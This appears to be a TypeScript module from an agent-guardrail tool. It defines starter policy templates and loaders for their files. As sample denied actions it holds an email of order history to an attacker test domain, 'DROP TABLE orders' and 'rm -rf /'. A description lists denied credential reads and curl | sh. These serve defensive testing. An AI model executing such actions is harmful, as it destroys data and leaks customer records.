import { readFile } from 'node:fs/promises';
import { fileURLToPath } from 'node:url';
import { AgentGuardError } from '../errors.js';

/** One starter project `agentguard init` can write; its files live in templates/<id>/ in the package. */
export interface TemplateInfo {
  id: string;
  title: string;
  description: string;
  /** An action the template's policy denies, suggested in the "next steps" as a first thing to simulate. */
  sampleAction: Record<string, unknown>;
}

/** The templates shipped in templates/, in the order the prompt offers them. */
export const TEMPLATES = [
  {
    id: 'support-chatbot',
    title: 'Support chatbot',
    description: 'Knowledge base and ticket tools, small refunds, read-only database, email only to the customer domain.',
    sampleAction: { kind: 'tool', name: 'email.send', input: { to: 'someone@attacker.test', subject: 'Order history' } },
  },
  {
    id: 'data-sql',
    title: 'Data / SQL agent',
    description: 'Read-only SQL, destructive SQL denied, row limits clamped, tables with personal data need approval.',
    sampleAction: { kind: 'tool', name: 'db.query', input: { sql: 'DROP TABLE orders' } },
  },
  {
    id: 'coding-agent',
    title: 'Coding agent',
    description: 'Coding agents through their hooks (Claude Code, Cursor, Gemini CLI, Copilot CLI, Windsurf, Codex): the coding-agent pack, no credential reads, no rm -rf / or curl | sh, pushes to protected branches need approval.',
    sampleAction: { kind: 'shell', name: 'shell.exec', input: { command: 'rm -rf /' } },
  },
] as const satisfies readonly TemplateInfo[];

export type TemplateId = (typeof TEMPLATES)[number]['id'];

export const TEMPLATE_IDS: readonly TemplateId[] = TEMPLATES.map((t) => t.id);

export const DEFAULT_TEMPLATE: TemplateId = 'support-chatbot';

/** The two files every template holds. */
export const TEMPLATE_FILES = { policy: 'policy.yaml', test: 'policy.test.yaml' } as const;

const TEMPLATES_ROOT = new URL('../../../templates/', import.meta.url);

export function isTemplateId(value: string): value is TemplateId {
  return (TEMPLATE_IDS as readonly string[]).includes(value);
}

export function templateInfo(id: TemplateId): TemplateInfo {
  return TEMPLATES.find((t) => t.id === id)!;
}

/** Absolute path of a template's folder in the installed package. */
export function templateDirectory(id: TemplateId): string {
  return fileURLToPath(new URL(`${id}/`, TEMPLATES_ROOT));
}

/** Reads a template's policy and test text. A missing file means a broken install, not a user mistake. */
export async function readTemplate(id: TemplateId): Promise<{ policy: string; test: string }> {
  const dir = templateDirectory(id);
  const read = async (file: string) => {
    try {
      return await readFile(`${dir}${file}`, 'utf8');
    } catch (error) {
      throw new AgentGuardError('TEMPLATE_MISSING', `The "${id}" template is incomplete: cannot read ${dir}${file} (${(error as NodeJS.ErrnoException).code ?? String(error)})`, {
        actions: ['Reinstall agentguard (npm install agentguard); the package ships templates/.'],
        cause: error,
      });
    }
  };
  return { policy: await read(TEMPLATE_FILES.policy), test: await read(TEMPLATE_FILES.test) };
}
